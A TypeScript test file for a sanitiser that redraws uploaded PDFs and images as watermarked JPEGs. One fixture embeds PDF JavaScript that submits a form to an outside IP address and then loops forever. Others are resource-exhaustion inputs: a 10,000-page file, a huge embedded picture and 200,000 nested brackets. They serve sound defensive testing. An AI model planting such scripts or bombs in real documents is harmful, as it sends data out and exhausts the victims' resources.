import assert from 'node:assert/strict';
import { test } from 'node:test';
import sharp from 'sharp';
import { makePdf } from '../../../../test/corpus/pdf.ts';
import { Refusal, type RefusalCode } from '../../../kernel/refusal.ts';
import { makeAnew } from './make-anew.ts';

const MARK = { site: 'lamps.example', day: '2026-11-22' };

async function refused(bytes: Uint8Array, code: RefusalCode, because: RegExp): Promise<void> {
  await assert.rejects(
    () => makeAnew({ bytes: bytes, mark: MARK }),
    (error: unknown) => {
      assert.ok(error instanceof Refusal, String(error));
      assert.equal(error.code, code);
      assert.match(error.message, because);
      return true;
    },
  );
}

test('the pages of a PDF file become one picture, and a JPEG is what is kept', async () => {
  const kept = await makeAnew({ bytes: makePdf({ pages: 2, draws: '1 0 0 rg 0 0 595 842 re f' }), mark: MARK });
  const { format, width = 0, height = 0 } = await sharp(kept).metadata();
  assert.equal(format, 'jpeg');
  assert.ok(height > 2 * width, 'two pages lie one below the other');
  const { channels } = await sharp(kept).stats();
  const [red, green, blue] = channels.map(({ mean }) => mean);
  assert.ok((red ?? 0) > 200 && (green ?? 255) < 60 && (blue ?? 255) < 60, `${red} ${green} ${blue}`);
});

test('a script in a PDF file is not run and not kept', async () => {
  const scripted = makePdf({ pages: 1, script: 'this.submitForm("http://192.0.2.1/CANARY"); while (true) {}' });
  assert.ok(scripted.includes('CANARY'));
  const kept = await makeAnew({ bytes: scripted, mark: MARK });
  assert.ok(!kept.includes('CANARY') && !kept.includes('JavaScript'));
});

test('a PDF file of 10,000 pages is refused before one is drawn', async () => {
  await refused(makePdf({ pages: 10_000 }), 'invalid', /at most 4 pages/);
});

test('a PDF file with a picture larger than its memory may be is refused within its memory', async () => {
  const before = process.memoryUsage().rss;
  const bomb = makePdf({ pages: 1, picture: { width: 24_000, height: 12_000 } });
  assert.ok(bomb.byteLength < 5 * 1024 * 1024);
  // PDFium draws what it can without the picture, or says that it cannot: both are within the limit.
  await makeAnew({ bytes: bomb, mark: MARK }).catch((error: unknown) => assert.ok(error instanceof Refusal));
  assert.ok(process.memoryUsage().rss - before < 500 * 1024 * 1024);
});

test('a PDF file that is cut off, endlessly nested or none at all is refused with a reason', async () => {
  const nested = Buffer.from(`%PDF-1.7\n${'['.repeat(200_000)}`);
  for (const bytes of [makePdf({ pages: 1 }).subarray(0, 60), Buffer.from('%PDF-1.7\n%\xe2\xe3'), nested]) {
    await refused(bytes, 'invalid', /cannot be read as a PDF file/);
  }
});

test('a kept document says for whom and when it was given, so that a copy serves for nothing else', async () => {
  const blank = await sharp({ create: { width: 800, height: 600, channels: 3, background: 'white' } })
    .png()
    .toBuffer();
  const { channels } = await sharp(await makeAnew({ bytes: blank, mark: MARK })).stats();
  assert.ok(
    channels.some(({ min }) => min < 220),
    'something is written over a blank page',
  );
  const other = await makeAnew({ bytes: blank, mark: { ...MARK, site: 'other.example' } });
  assert.notDeepEqual(other, await makeAnew({ bytes: blank, mark: MARK }), 'and it names the site');
});
